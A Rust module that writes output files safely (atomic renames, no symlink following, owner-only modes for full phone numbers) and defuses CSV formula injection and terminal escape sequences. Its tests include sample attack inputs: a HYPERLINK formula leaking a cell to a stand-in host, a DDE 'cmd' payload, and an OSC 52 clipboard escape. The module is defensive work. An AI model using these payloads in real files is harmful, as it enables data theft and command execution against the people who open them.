//! Files the program writes (`--output`, `--report`, the rejected rows, the
//! demo): never the database or its `-wal`, `-shm` or journal, never
//! through a symbolic link, an existing file only when `--force` says so,
//! always whole (written to a temporary file in the same folder, then
//! renamed over the name), and never readable by everyone: owner only when
//! the file holds full phone numbers, owner and group otherwise.
//!
//! And what it writes in them: a cell of a CSV that a spreadsheet would read
//! as a formula starts with an apostrophe, and no control character from
//! stored text is kept in a CSV cell, a JSON text or a text file, so that
//! `cat` of any of them sends the terminal nothing it would obey.

use std::borrow::Cow;
use std::io::Write;
use std::path::{Path, PathBuf};

/// Who may read a file the program writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Readers {
    /// The file holds full phone numbers: its owner only (0600).
    Owner,
    /// Masked numbers or none: owner and group (0640).
    Group,
}

impl Readers {
    fn mode(self) -> u32 {
        match self {
            Readers::Owner => 0o600,
            Readers::Group => 0o640,
        }
    }
}

/// How to write one file.
#[derive(Debug, Clone)]
pub struct Target {
    pub path: PathBuf,
    /// Replace an existing regular file (`--force`).
    pub force: bool,
    pub readers: Readers,
    /// The database, whose files are never written over.
    pub database: Option<PathBuf>,
}

/// Why a file was not written. Nothing was written. The catalog
/// (`i18n::outfile_error`) names it, and `Display` in English.
#[derive(Debug, thiserror::Error)]
pub enum OutFileError {
    Database { path: String },
    Symlink { path: String },
    Exists { path: String },
    NotAFile { path: String },
    Io { path: String, err: std::io::Error },
}

/// The database's own files: the file, its `-wal`, `-shm` and `-journal`.
fn database_files(db: &Path) -> Vec<PathBuf> {
    let mut files = vec![db.to_path_buf()];
    for suffix in ["-wal", "-shm", "-journal"] {
        let mut name = db.as_os_str().to_os_string();
        name.push(suffix);
        files.push(PathBuf::from(name));
    }
    files
}

/// The same file: by device and inode when both exist, else by the
/// canonical folder and the name.
fn same_file(a: &Path, b: &Path) -> bool {
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        if let (Ok(x), Ok(y)) = (std::fs::metadata(a), std::fs::metadata(b)) {
            return x.dev() == y.dev() && x.ino() == y.ino();
        }
    }
    fn canonical(p: &Path) -> Option<PathBuf> {
        let dir = match p.parent() {
            Some(d) if !d.as_os_str().is_empty() => d,
            _ => Path::new("."),
        };
        Some(dir.canonicalize().ok()?.join(p.file_name()?))
    }
    match (canonical(a), canonical(b)) {
        (Some(x), Some(y)) => x == y,
        _ => false,
    }
}

/// Checks that `t` may be written: not the database, not a link, not an
/// existing file unless forced.
pub fn check(t: &Target) -> Result<(), OutFileError> {
    let shown = t.path.display().to_string();
    if let Some(db) = &t.database {
        if database_files(db).iter().any(|f| same_file(f, &t.path)) {
            return Err(OutFileError::Database { path: shown });
        }
    }
    match std::fs::symlink_metadata(&t.path) {
        Ok(m) if m.file_type().is_symlink() => Err(OutFileError::Symlink { path: shown }),
        Ok(m) if !m.is_file() => Err(OutFileError::NotAFile { path: shown }),
        Ok(_) if !t.force => Err(OutFileError::Exists { path: shown }),
        Ok(_) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(err) => Err(OutFileError::Io { path: shown, err }),
    }
}

/// Writes `bytes` to `t`: checked, into a new temporary file beside it
/// (never following a link, with the mode for its readers whatever the
/// umask), flushed to disk, then renamed over the name.
pub fn write(t: &Target, bytes: &[u8]) -> Result<(), OutFileError> {
    write_with(t, |f| f.write_all(bytes))
}

/// [`write`], with the content written by `fill`.
pub fn write_with(
    t: &Target,
    fill: impl FnOnce(&mut dyn Write) -> std::io::Result<()>,
) -> Result<(), OutFileError> {
    check(t)?;
    let shown = t.path.display().to_string();
    let io = |err| OutFileError::Io {
        path: shown.clone(),
        err,
    };
    let (tmp, file) = temp_beside(&t.path, t.readers.mode()).map_err(io)?;
    let result = (|| {
        let mut w = std::io::BufWriter::new(&file);
        fill(&mut w)?;
        w.flush()?;
        drop(w);
        file.sync_all()?;
        // Checked again just before: a link planted meanwhile is refused.
        Ok(())
    })();
    if let Err(err) = result {
        let _ = std::fs::remove_file(&tmp);
        return Err(io(err));
    }
    if let Err(e) = check(t) {
        let _ = std::fs::remove_file(&tmp);
        return Err(e);
    }
    // rename replaces the name itself, never what a link points to.
    std::fs::rename(&tmp, &t.path).map_err(|err| {
        let _ = std::fs::remove_file(&tmp);
        io(err)
    })
}

/// A new file in the folder of `path`, named after it, created exclusively
/// (so never through a link) with `mode`.
pub fn temp_beside(path: &Path, mode: u32) -> std::io::Result<(PathBuf, std::fs::File)> {
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d.to_path_buf(),
        _ => PathBuf::from("."),
    };
    let name = path.file_name().unwrap_or_default().to_string_lossy();
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    let mut last = None;
    for i in 0..100u32 {
        let tmp = dir.join(format!(
            ".{name}.{}-{:x}.tmp",
            std::process::id(),
            seed.wrapping_add(i)
        ));
        let mut opts = std::fs::OpenOptions::new();
        opts.write(true).create_new(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::OpenOptionsExt;
            opts.mode(mode).custom_flags(libc::O_NOFOLLOW);
        }
        match opts.open(&tmp) {
            Ok(file) => {
                // The umask may have taken permissions away: set them.
                #[cfg(unix)]
                {
                    use std::os::unix::fs::PermissionsExt;
                    file.set_permissions(std::fs::Permissions::from_mode(mode))?;
                }
                return Ok((tmp, file));
            }
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => last = Some(e),
            Err(e) => return Err(e),
        }
    }
    Err(last.unwrap_or_else(|| std::io::Error::other("no temporary name free")))
}

/// A CSV cell as a spreadsheet will not run it and a terminal will not obey
/// it: a control, text-direction or invisible character (stored before the
/// checks at the door, or by another program) is shown as `\x1b` or
/// `\u202e` (line feeds and tabs kept), and a cell starting with `=`, `+`,
/// `-`, `@` or a tab, unless it is a plain number, gets a leading
/// apostrophe (Excel and LibreOffice then show it as text). A lone `-`
/// stays as it is.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    match crate::domain::text::printable(s) {
        Cow::Borrowed(s) => formula_inert(s),
        Cow::Owned(s) => Cow::Owned(formula_inert(&s).into_owned()),
    }
}

fn formula_inert(s: &str) -> Cow<'_, str> {
    let risky = matches!(
        s.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
    );
    // A lone `-` is how reports say "no value": not a formula.
    if risky && !plain_number(s) && s != "-" {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// `-12`, `+3.50`, `-0.25`: a sign, digits, at most one decimal point.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// `v` as pretty JSON with no character a terminal would obey, even inside
/// its strings (see [`crate::domain::text::json_safe`]); the same value.
pub fn json_text<T: serde::Serialize + ?Sized>(v: &T) -> serde_json::Result<String> {
    let json = serde_json::to_string_pretty(v)?;
    Ok(crate::domain::text::json_safe(&json).into_owned())
}

/// Writes one CSV record with every cell made safe by [`csv_cell`].
pub fn csv_record<W: Write, I, S>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    w.write_record(cells.into_iter().map(|c| csv_cell(c.as_ref()).into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_an_apostrophe_and_numbers_do_not() {
        for f in [
            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "\t=1",
            "=1",
            "--1",
            "＝1+1",
        ] {
            assert_eq!(csv_cell(f), format!("'{f}"), "{f}");
        }
        for n in [
            "-12",
            "+3.50",
            "-0.25",
            "12",
            "张三",
            "a=b",
            "",
            "13812345678",
        ] {
            assert_eq!(csv_cell(n), n, "{n}");
        }
    }

    #[test]
    fn stored_controls_are_shown_in_a_cell_and_the_formula_check_still_holds() {
        assert_eq!(csv_cell("M\x1b]52;c;aGk=\x07"), "M\\x1b]52;c;aGk=\\x07");
        assert_eq!(csv_cell("\r=1"), "\\x0d=1");
        assert_eq!(csv_cell("=1\u{202e}"), "'=1\\u202e");
        assert_eq!(csv_cell("第一行\n第二行\t完"), "第一行\n第二行\t完");
    }

    #[test]
    fn json_keeps_the_value_and_sends_no_control() {
        let v = serde_json::json!({ "model": "M\x1b]0;t\x07\x7f\u{9b}\u{202e}\u{200b}" });
        let text = json_text(&v).unwrap();
        assert!(!text
            .chars()
            .any(|c| crate::domain::text::is_unsafe(c) && c != '\n'));
        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).unwrap(), v);
    }

    #[test]
    fn mode_bits_never_give_others_anything() {
        assert_eq!(Readers::Owner.mode() & 0o077, 0);
        assert_eq!(Readers::Group.mode() & 0o007, 0);
    }
}
